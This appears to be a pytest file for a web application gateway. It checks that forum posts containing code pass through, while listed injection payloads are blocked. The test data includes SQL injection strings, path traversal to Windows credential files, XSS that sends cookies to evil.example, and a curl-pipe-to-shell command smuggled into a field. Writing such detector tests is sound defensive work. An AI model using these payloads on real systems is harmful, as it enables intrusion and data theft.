"""Code and prose people post are not injections; the classic injections still are.

Both readers of the injection signatures are asked: the payload detectors (``gateway.payload``), and
the fallback rules (``rules.fallback_files``) as the pipeline compiles them, which read their signatures
value by value too. The posts are written by hand in the shapes editors send: a forum reply or comment
form (a multi-line form field), a JSON write of a post, a search box.
"""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import quote

import pytest

from gateway import config as configmod
from gateway.clients import ClientState
from gateway.features import Features, from_record
from gateway.payload import PayloadInspector, signatures_for
from gateway.pipeline import RuleEvaluator, build
from gateway.rules import RuleOptions, RuleTable, load
from gateway.verdict import Verdict
from tests.harness import ROOT

RULES = {"files": [str(ROOT / "rules" / "default.yaml")], "fallback_files": [str(ROOT / "rules" / "injections.yaml")]}


def shipped() -> configmod.Config:
    return configmod.validate({"backends": {"a": {"servers": ["http://127.0.0.1:9"]}}, "rules": RULES, "challenge": {"dev_generate_secret": True}},
                              str(ROOT / "clefgate.yaml"))


@pytest.fixture(scope="module")
def inspector() -> PayloadInspector:
    cfg = shipped()
    return PayloadInspector(cfg, signatures_for(cfg))


@pytest.fixture(scope="module")
def fallback() -> RuleEvaluator:
    """The fallback rules as the pipeline compiles them: the injection signatures read value by value."""
    table = build(shipped()).fallback_rules
    assert table is not None
    return table


@pytest.fixture(scope="module")
def whole() -> RuleTable:
    """The injection signatures read over the whole request as one text (as rules.files reads them)."""
    return load([str(ROOT / "rules" / "injections.yaml")], RuleOptions(), ClientState())


def request(place: str, text: str) -> Features:
    headers = [["Host", "forum.example"]]
    if place == "query":
        rec: dict[str, Any] = {"method": "GET", "path": "/search?q=" + quote(text, safe=""), "body": None}
    elif place == "form":
        headers.append(["Content-Type", "application/x-www-form-urlencoded"])
        rec = {"method": "POST", "path": "/posting.php?mode=reply", "body": "subject=Re&message=" + quote(text, safe="") + "&post=Submit"}
    else:
        headers.append(["Content-Type", "application/json"])
        rec = {"method": "POST", "path": "/wp-json/wp/v2/posts", "body": json.dumps({"title": "Notes", "content": text, "status": "publish"})}
    return from_record({**rec, "headers": headers, "client_ip": "203.0.113.9"})


def blocked_by_fallback(table: RuleEvaluator, f: Features) -> str | None:
    out = table.evaluate(f)
    return out.rule if isinstance(out, Verdict) else None


# posts with code: a comment after a quoted argument, a string ending a line before a comment line, SQL with its own
# comments and statements, shell, a config file, rendered HTML with its own comments
POSTS = [
    'validator = jsonschema_rs.validator_for(schema)\nvalidator.is_valid("USD")  # True\nvalidator.is_valid("invalid")  # False\n\n'
    "Custom keywords are classes.",
    'def gelu(op, x):\n    return op.Gelu(x, domain="com.microsoft")\n\n# Create multiple rules\nrule1 = pattern.RewriteRule(erf_gelu_pattern, gelu)',
    'for i in range(5):\n    limiter.try_acquire("item")     # blocks when the bucket is full\n```\n\nFail fast instead with `blocking=False`.',
    '<pre><code class="language-python">r.hset("user:1", "name", "alice")\nr.hdel("users")  # =&gt; 1\n</code></pre>\n<p>Order is not kept.</p>',
    'store = RedisStateStore(redis, "my-key")          # sync or async client\nbucket = StateBucket([rate], store=store)',
    '[format]\n# Like Black, use double quotes for strings.\nquote-style = "double"\n\n# Like Black, indent with spaces.\nindent-style = "space"',
    'from safetensors.torch import load_file\n\n# Now loading\nloaded = load_file("./model.safetensors")\nprint(loaded.keys())',
    '```bash\nexport NAME="demo"  # the app name\necho "$NAME" -- done\ngit checkout \'main\' -- src/\n```\nThen run it again.',
    "```sql\nSELECT id, name FROM users -- the active ones\nWHERE active = 'yes' -- only these\nORDER BY name;\n"
    "INSERT INTO audit (who) VALUES ('me');\n```\nIs an index on active enough?",
    "```sql\nSELECT name FROM t WHERE id = 'a' # MySQL comment\n  AND kind = \"b\" /* block comment */\nLIMIT 10;\n```\nwhy is it slow?",
    "<!-- copy-pasted because GitHub doesn't support the include directive -->\n<p>Here's an echo server:</p>",
    '<!-- -*- mode: rst -*- -->\n<p><a class="reference external" href="https://example.org/">docs</a></p>',
    # a rendered post: the ; of an escaped quote ending a line before a command line
    '<pre><code class="language-bash"># the CMake prefix for conda environment\n'
    "export CMAKE_PREFIX_PATH=&quot;${CONDA_PREFIX:-'$(dirname $(which conda))/../'}:${CMAKE_PREFIX_PATH}&quot;\n"
    "python -m pip install --no-build-isolation -v -e .\n</code></pre>",
    # SQL a developer posts: a statement ending in GROUP BY 1;, an aggregate, a statement after a statement on the next line
    "```sql\nSELECT kind, count(*) FROM events GROUP BY 1;\n```\nWhy is this slow on a big table?",
    "SELECT author, group_concat(title) FROM posts GROUP BY author;\n\nHow do I sort inside group_concat?",
    "```sql\nINSERT INTO users (name) VALUES ('me');\nINSERT INTO audit (who) VALUES ('me');\n```\nDo I need a transaction here?",
    # the last line is code with a comment after a string it opened and closed itself
    'Here is the fix:\nfoo("x")  # done',
]
# a line of code, alone in a search box or a field: its quotes are its own, its statement ends where it ends
CODE_LINES = ['foo("x")  # done', "print('total')  # prints it", "SELECT kind, count(*) FROM t GROUP BY 1;",
              "select group_concat(name) from t group by kind"]
# prose: a Windows path, a tag or a name asked about among words
QUESTIONS = ["what does <script defer> mean", "<script defer> example", "<svg viewBox> and `${}` template literal together",
             "when to use C:\\Windows\\System32", "C:\\Windows\\System32 best practice", "how to cd c:\\windows\\system32 in cmd"]
# a name a signature knows, or a tag, mentioned among words (read as one text, the whole request blocks each of them)
MENTIONS = ["document.cookie security", "information_schema tables", "information_schema.tables best practice", "what is document.cookie",
            "replace SUBSTRING() with <iframe>"]
# the same names used: alone, in a statement, in markup that runs or loads, in a URL; and shell run in a short value
USED = ["information_schema.tables", "1 union select table_name from information_schema.tables--", "document.cookie", "<iframe src=//evil.example/x>",
        "\"><script>new Image().src='//evil.example/?'+document.cookie</script>", "http://metadata.google.internal/computeMetadata/v1/",
        "x;$(curl http://evil.example/x.sh|sh)"]
PLACES = ("form", "json")


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("text", POSTS, ids=range(len(POSTS)))
def test_code_in_a_post_is_forwarded(inspector: PayloadInspector, fallback: RuleEvaluator, text: str, place: str) -> None:
    f = request(place, text)
    assert inspector.inspect(f) == ()
    assert blocked_by_fallback(fallback, f) is None


@pytest.mark.parametrize("place", ("query", *PLACES))
@pytest.mark.parametrize("text", CODE_LINES)
def test_a_line_of_code_is_forwarded(inspector: PayloadInspector, fallback: RuleEvaluator, text: str, place: str) -> None:
    f = request(place, text)
    assert inspector.inspect(f) == ()
    assert blocked_by_fallback(fallback, f) is None


@pytest.mark.parametrize("place", ("query", *PLACES))
@pytest.mark.parametrize("text", QUESTIONS)
def test_a_question_naming_a_path_or_a_tag_is_forwarded(inspector: PayloadInspector, fallback: RuleEvaluator, text: str, place: str) -> None:
    f = request(place, text)
    assert inspector.inspect(f) == ()
    assert blocked_by_fallback(fallback, f) is None


@pytest.mark.parametrize("place", ("query", *PLACES))
@pytest.mark.parametrize("text", MENTIONS)
def test_a_name_among_words_is_a_mention_to_both_readers(inspector: PayloadInspector, fallback: RuleEvaluator, whole: RuleTable, text: str,
                                                         place: str) -> None:
    f = request(place, text)
    assert inspector.inspect(f) == ()
    assert blocked_by_fallback(fallback, f) is None
    assert blocked_by_fallback(whole, f) is not None  # the reading, not the signature, tells the mention apart


@pytest.mark.parametrize("place", ("query", *PLACES))
@pytest.mark.parametrize("text", USED)
def test_a_name_used_is_blocked_by_both_readers(inspector: PayloadInspector, fallback: RuleEvaluator, text: str, place: str) -> None:
    f = request(place, text)
    assert inspector.inspect(f), (place, text)
    assert blocked_by_fallback(fallback, f) is not None, (place, text)


INJECTIONS = [
    "admin'--", "admin'#", "admin' -- x", "admin'# anything after it", "1')-- -", "' or 1=1#", "x'/*", "1' or '1'='1'#", "1') or ('1'='1'--",
    "' union select null,null--", "1;drop table users--", "1' and load_file('/etc/passwd')--", "load_file(0x2f6574632f706173737764)",
    # a trailing line break, as a textarea sends it, and an injection spread over lines
    "admin'#\n", "x' or 1=1 -- \r\n", "1'\nunion select username, password from users--",
    "..\\..\\windows\\win.ini", "C:\\Windows\\System32\\drivers\\etc\\hosts", "c:\\boot.ini", "& type C:\\WINNT\\repair\\SAM",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<script defer> alert(1)", "<script> location=name",
    "--><script>alert(1)</script>", "x</title><script>alert(1)</script>", '"></title><img src=x onerror=alert(1)>',
    '<svg><set attributeName="xlink:href" begin="accessKey(a)" to="//evil.example/?a" /></svg>',
    # a column count cut short by a comment, a stacked statement after a value (on its line or the next), a quote the
    # value closes but never opened, a server-side include
    "1 ORDER BY 5--", "1' ORDER BY 3#", "x') GROUP BY 1-- -", "1;\nDROP TABLE users", "1'; INSERT INTO users (name) VALUES ('x')--",
    "1); DELETE FROM users", 'admin" -- x', '<!--#exec cmd="id"-->',
]


@pytest.mark.parametrize("place", ("query", *PLACES))
@pytest.mark.parametrize("text", INJECTIONS)
def test_injections_are_still_blocked(inspector: PayloadInspector, fallback: RuleEvaluator, text: str, place: str) -> None:
    f = request(place, text)
    assert inspector.inspect(f), (place, text)
    assert blocked_by_fallback(fallback, f) is not None, (place, text)


def test_a_quote_break_and_comment_ending_a_post_is_still_blocked(inspector: PayloadInspector, fallback: RuleEvaluator) -> None:
    # the comment ends the value: nothing after it for the query to keep, as in an injection
    f = request("form", "Nice post!\nadmin'-- ")
    assert [h.kind for h in inspector.inspect(f)] == ["sql-injection"]
    assert blocked_by_fallback(fallback, f) == "block-sql-injection"
